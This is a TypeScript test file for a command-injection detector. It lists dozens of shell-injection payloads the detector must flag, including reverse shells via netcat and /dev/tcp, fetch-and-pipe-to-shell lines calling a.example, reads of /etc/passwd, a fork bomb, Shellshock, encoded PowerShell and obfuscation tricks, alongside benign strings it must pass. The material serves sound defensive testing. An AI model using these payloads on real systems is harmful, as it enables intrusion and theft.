// biome-ignore-all lint/suspicious/noTemplateCurlyInString: shells write variables like that
import { expect, test } from 'bun:test'
import { viewsOf } from '../../../src/hooks/anomaly/decode/index.ts'
import { commandInjection } from '../../../src/hooks/anomaly/shell/index.ts'

const score = (text: string): number =>
  Math.max(...viewsOf(text, 'query').map((view) => commandInjection(view)))

const attacks: readonly [what: string, text: string][] = [
  ['a function of PHP behind a pipe', "| system('sleep 7');"],
  ['a function of PHP without an argument', '|| phpinfo()'],
  ['a command within a command', '$(`wget http://a.example`)'],
  ['a connection by a variable', 'd=/dev&&(sh)0>$d/tcp/192.0.2.7/7'],
  ['what tells who one is, handed to a shell', 'strace whoami | sh'],
  ['a condition of cmd.exe', 'if "%A%" equ "7" echo a'],
  ['a condition on a variable of cmd.exe', 'if not defined A set B=7& echo %B%'],
  ['a loop of cmd.exe', 'for %%a in (b c) do echo %%a'],
  ['a name whose letters are quoted', "'wh'oami"],
  ['a name whose first letter is quoted', '"w"get a.example'],
  ['braces with an empty end', '{,ifconfig}'],
  ['a substitution of nothing', '$(whoami$())'],
  ['a function that calls itself', 'a(){ a & a; };a'],
  ['a name of a file that is guessed', '/etc/[m-z]asswd'],
  ['a quote, with a command that tells', '" whoami'],
  ['an option that runs a command', 'a--exec=`id`'],
  ['blanks of a form', '+dir+c:/+|'],
  ['a semicolon', 'x;id'],
  ['a semicolon and blanks, after an address', '10.1.2.3 ; whoami'],
  ['a pipe to a program by its path', 'report|/usr/bin/id'],
  ['two ampersands', 'call.wav && cat /etc/hosts'],
  ['an ampersand of cmd.exe', '10.1.2.3 & ipconfig /all'],
  ['a new line', 'x\nwget http://a.example/s'],
  ['an encoded new line', 'x%0aid'],
  ['nothing', '| nc -z 10.1.2.3 80'],
  ['a quote', "'; ping -c 9 10.1.2.3 #"],
  ['a quote in a sentence', 'nice call"; wget http://a.example/s -O- | sh; echo "'],
  ['a parenthesis', 'a);ls -la;'],
  ['a drive', '7; type C:\\windows\\system.ini'],
  ['an expression of PowerShell', 'x;IEX(iwr http://a.example)'],
  ['a program of SQLite', '1;.system id'],
  ['an escaped end of the line', '\\nid'],
  ['a word, at the escaped end of a line', 'x;id\\n'],
  ['a call of nothing', '();id'],
  ['a plus', '+|+dir c:\\'],
  ['a semicolon, by its path', 'x;./y'],
  ['a semicolon, in quotes', ";'curl' http://a.example"],
  ['a semicolon, in another', 'x;exec id'],
  ['a semicolon, in braces', 'x;{ id; }'],
  ['a semicolon, in a loop', 'x;for i in a b;do id;done'],
  ['a semicolon, in a condition', 'x;if true;then id;fi'],
  ['a semicolon, in a function', 'x;f(){ id;};f'],
  ['an ampersand, with the ending of Windows', 'x&calc.exe'],
  ['an ampersand, to see whether it runs', 'x&echo ABC'],
  ['a pipe, once', '|ls|'],
  ['a pipe, by a variable', '|${SHELL}'],
  ['a cmdlet', 'x;Invoke-WebRequest http://a.example'],
  ['a test', '"| [ 3 -eq $(echo abc | wc -c) ] || sleep 2 \\\\'],
  ['assignments', "'; a=$(hostname); b=${#a}; if [ 3 -eq ${b} ]; then sleep 2; fi"],
]

for (const [what, text] of attacks)
  test(`a command behind ${what} is found`, () => {
    expect(score(text)).toBeGreaterThanOrEqual(0.5)
  })

const disguises: readonly [what: string, text: string][] = [
  ['a substitution', 'x$(id)'],
  ['backticks', '`id`'],
  ['a substitution of a process', '<(cat x)'],
  ['empty quotes', "who''ami"],
  ['quoted letters', 'w"h"o"a"mi'],
  ['escapes', 'w\\h\\o\\a\\m\\i'],
  ['carets', 'w^h^o^a^m^i'],
  ['an empty substitution', 'who$()ami'],
  ['a variable that is not set', 'ca$@t /et$x/pas$x`swd'],
  ['wildcards', '/b?n/c?t /e?c/p*d'],
  ['a bracket', '/etc/pass[w]d'],
  ['a parameter that is not set', 'wh$1oami'],
  ['carets among few letters', 'd^i^r'],
  ['an empty substitution at its end', 'ping$() 10.1.2.3'],
  ['a bracket of other letters', '/etc/[!x]asswd'],
  ['an escape in a folder', '/et\\c/hosts'],
  ['braces and quotes', "{,i''d,}"],
  ['a letter of a variable', ';${PATH:0:1}bin${PATH:0:1}id'],
  ['a text given to a shell', 'bash<<<id'],
  ['a text that is unwrapped', 'echo aWQ= | base64 -d | sh'],
  ['a text that holds a substitution', 'cat<<<$(id | sh)'],
  ['a letter in a word', 'x`echo ABC`'],
  ['the field separator', 'cat${IFS}x'],
  ['braces', '{wget,http://a.example}'],
  ['braces that are put together', '{l,-a}s'],
  ['braces with an empty end', '{,id,}'],
  ['a variable', 'a=uname;b=-a;$a $b'],
  ['an echo', 'who$(echo am)i'],
]

for (const [what, text] of disguises)
  test(`a command in the disguise of ${what} is found`, () => {
    expect(score(text)).toBeGreaterThanOrEqual(0.5)
  })

const forms: readonly [what: string, text: string][] = [
  ['a connection of bash', 'bash -c "exec 3<>/dev/tcp/10.1.2.3/99"'],
  ['a shell handed to netcat', 'nc 10.1.2.3 99 -e /bin/sh'],
  ['a function in the environment', '() { :; }; /bin/id'],
  ['a fork bomb', 'f() { f | f & }; f'],
  ['a sum that proves a shell', 'print(`echo A$((3+4))B`)'],
  ['a script that nobody can read', 'powershell -nop -enc aGVsbG8gd29ybGQhIQ=='],
  ['a window that is hidden', 'powershell -w hidden -c "x"'],
  ['the shell of Windows', '%COMSPEC%'],
  ['an option of sendmail', 'a@b.example -X/tmp/x.php'],
  ['an option of find', 'x -exec /bin/id \\;'],
  ['a command of SQLite', '.shell id'],
  ['a library of SQLite', "load_extension('x')"],
  ['a loop of cmd.exe', '& for /f "tokens=1" %a in (\'ver\') do echo %a'],
]

for (const [what, text] of forms)
  test(`${what} is found`, () => {
    expect(score(text)).toBeGreaterThanOrEqual(0.5)
  })

const honest = [
  'b&w',
  'c&w music',
  'salt & pepper',
  'AT&T; call back',
  'Q&A; type your question',
  'a | b',
  'copy & paste; find & replace',
  'Tom; who is at home?',
  'name;id;email',
  'Python; bash; perl',
  "'name' | 'id' | 'date'",
  '| ls | lists files |\n|---|---|\n| id | tells who |',
  "curl -s https://a.example/x | jq '.items[]'",
  'ls -la | less',
  'git add . && git commit -m "x" && git push',
  '$ npm install\n$ npm test',
  'docker rm $(docker ps -aq)',
  'Use `ls -la | less` where the list is long; `wc -l` counts.',
  'Deploy failed; run `sudo systemctl restart web` first',
  'for i in 1 2 3; do echo "try $i"; done',
  "$('#id').hide(); $(document).ready(x)",
  'const x = require("x"); exec("ls -la", done)',
  'if (a && b) { sort(x); } else { sleep(1) }',
  "INSERT INTO t VALUES ('O''Brien'); SELECT 1",
  "grep -E 'a|b' x; cut -d'|' -f2 y",
  'x="$(echo "$y" | cut -f1)"',
  'find . -name x -exec rm {} \\;',
  'x^2 + y^2 = z^2',
  '(a+|b+)',
  'cut {first,last} names',
  'npm uses %COMSPEC% on Windows',
  'mail a@b.example - X was there',
  'text/html;charset=utf-8',
  'https://a.example/?a=1&id=5&sort=date',
  'a{color:red;top:5px}',
  'C:\\Users\\who\\ami',
]

for (const text of honest)
  test(`${text} is honest`, () => {
    expect(score(text)).toBeLessThan(0.5)
  })

test('no text takes long, however it repeats', () => {
  const units = [
    ';',
    ';a',
    '$(',
    '`',
    '`a ',
    "'",
    "a''b",
    '${',
    '{a,',
    '/?',
    '/[',
    'echo $((',
    '\\a',
  ]
  for (const unit of [...units, '() {', 'for /f ', 'nc ', 'mkfifo ', 'a=;$a', '|', ' ', '<('])
    expect(score(unit.repeat(Math.ceil(100_000 / unit.length)))).toBeLessThanOrEqual(1)
})
